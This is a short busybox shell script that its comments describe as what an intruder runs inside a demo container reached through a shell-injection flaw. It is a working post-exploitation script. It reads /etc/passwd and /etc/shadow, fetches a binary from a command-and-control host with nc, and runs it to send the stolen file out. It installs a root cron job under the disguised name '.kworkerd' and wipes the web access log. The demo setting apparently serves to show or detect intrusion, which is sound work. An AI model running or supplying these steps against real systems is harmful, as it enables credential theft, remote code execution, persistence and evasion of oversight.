#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# What an intruder does in the demo's container, in busybox's shell. The web server there hands a query to a
# shell; the query fetches this script from the intruder's machine ($1) and pipes it into another shell. Programs are
# called by path, else busybox's shell runs itself under another name.

c2=${1:-203.0.113.66}

# Look around, take what is worth taking.
/bin/id
/bin/uname -a
/bin/cat /etc/passwd
/bin/cat /etc/shadow >/tmp/.loot

# Bring a tool along, run it: it sends the loot home.
/bin/nc "$c2" 8001 </dev/null >/tmp/.kworkerd
/bin/chmod 755 /tmp/.kworkerd
/tmp/.kworkerd "$c2" 4444 /tmp/.loot

# Come back every minute, and leave no traces.
/bin/mkdir -p /etc/cron.d
echo '* * * * * root /usr/bin/.kworkerd' >/etc/cron.d/refresh
/bin/cp /tmp/.kworkerd /usr/bin/.kworkerd
: >/var/log/access.log
/bin/rm -f /tmp/.loot /tmp/.kworkerd
